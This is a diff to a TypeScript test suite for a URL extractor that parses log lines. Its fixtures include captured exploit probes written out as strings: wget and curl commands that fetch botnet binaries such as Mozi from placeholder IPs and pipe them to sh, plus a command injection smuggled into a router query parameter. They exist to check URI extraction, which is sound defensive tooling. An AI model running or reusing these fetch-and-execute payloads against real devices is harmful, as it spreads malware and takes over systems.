@@ -3543,7 +3543,7 @@ describe("found by session 16's log hunt", () => {
       '"GET /setup.cgi?todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.12:40222/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/ HTTP/1.0"\n' +
       '"GET /index.php?vars[1][]=cd%20/tmp;wget%20http://192.0.2.11/bins/x86;chmod%20777%20x86;./x86%20thinkphp HTTP/1.1"\n' +
       "dest_host=`busybox+wget+http://192.0.2.7/gpon+-O+/tmp/gpon`;sh+/tmp/gpon\n" +
-      "curl+-s+https://a.example/x.sh|sh and wget+http://a.example/y&&sh+y\n";
+      "/x?c=curl+-s+https://a.example/x.sh|sh /y?d=wget+http://a.example/y&&sh+y\n";
     expect(uris(probes)).toEqual([
       "http://192.0.2.14:8088/Mozi.a",
       "http://192.0.2.12:40222/Mozi.m",
@@ -3598,6 +3598,31 @@ describe("found by session 16's log hunt", () => {
       "https://example.com/e#012x",
     ]);
     expectRecordsAtEverySplit(text);
+  });
+
+  test("the review's (session 37): an escape after a dropped colour, a fragment's '#003366', a command's argument only in a query and never past maxLength, a pair at the input's end", () => {
+    const text =
+      "Nov 28 15:35:45 vm app: Tomcat started on http://localhost:8080/app#033[0m#015\n" +
+      "Nov 28 15:35:45 vm dockerd: Local: #033[36mhttp://localhost:#033[1m5173#033[22m/#033[39m#015\n" +
+      "Nov 28 15:35:45 vm a: url=http://0.0.0.0:8080#033[0m#011status=200\n" +
+      "2024-01-02T03:04:05.123Z GET https://example.com/palette#003366 200\n" +
+      "Follow us on Google+https://plus.google.com/+AcmeCorp/posts\n";
+    expect(uris(text)).toEqual([
+      "http://localhost:8080/app",
+      "http://localhost:5173/",
+      "http://0.0.0.0:8080",
+      "https://example.com/palette#003366",
+      "https://plus.google.com/+AcmeCorp/posts",
+    ]);
+    expectRecordsAtEverySplit(text);
+    expect(uris("x /a?u=1&b=http://y.example/q&c=3")).toEqual(["http://y.example/q"]);
+    // (the query's "=" before an earlier URI's end: logfmt's request_uri)
+    expect(
+      uris(
+        "request_uri=http://h.example/luci/;stok=/locale?country=$(id>`wget+http://192.0.2.9/t+-O-|sh`)",
+      ),
+    ).toEqual(["http://h.example/luci/;stok=/locale?country=", "http://192.0.2.9/t"]);
+    expect(uris(`/x?c=wget+http://x.example/${"a".repeat(9000)}`)).toEqual([]);
   });
 
   test("Kafka's listener list: a name with '_' and '://' after a comma is the next listener (session 37)", () => {
@@ -6012,6 +6037,25 @@ describe("session 37: a URL that LaTeX's url.sty broke, as pdftotext gives it", 
         t,
       ).toEqual([]);
     }
+  });
+
+  test("the review's (session 37): a field's name or a title after a '/' that ends the line is no piece of the URL", () => {
+    const text =
+      "URL:http://www.meetup.com/DevOpsDC/events/47635522/\nLAST-MODIFIED:20120522T174406Z\n" +
+      "site_url: https://example-organization.github.io/some-project-name/\nrepo_url: https://github.com/x/y\n" +
+      "url = https://gitlab.example.com/some-group/some-subgroup/project/\nconfig_version = 1\n" +
+      "    ERROR: HTTP error 404 while getting Not Found for url: https://pypi.org/simple/\n" +
+      "pip._internal.exceptions.DistributionNotFound: No matching distribution\n" +
+      ".. _cobertura: https://example-organization.github.io/some-project-name/cobertura/\n" +
+      "CMAKE_DOTNET_TARGET_FRAMEWORK\n-----------------------------\n";
+    expect(extractText(text).map((f) => [f.uri, f.wrapped])).toEqual([
+      ["http://www.meetup.com/DevOpsDC/events/47635522/", false],
+      ["https://example-organization.github.io/some-project-name/", false],
+      ["https://github.com/x/y", false],
+      ["https://gitlab.example.com/some-group/some-subgroup/project/", false],
+      ["https://pypi.org/simple/", false],
+      ["https://example-organization.github.io/some-project-name/cobertura/", false],
+    ]);
   });
 
   test("a host broken after a label's '.', its rest followed by ').' or ')' and sentence punctuation", () => {
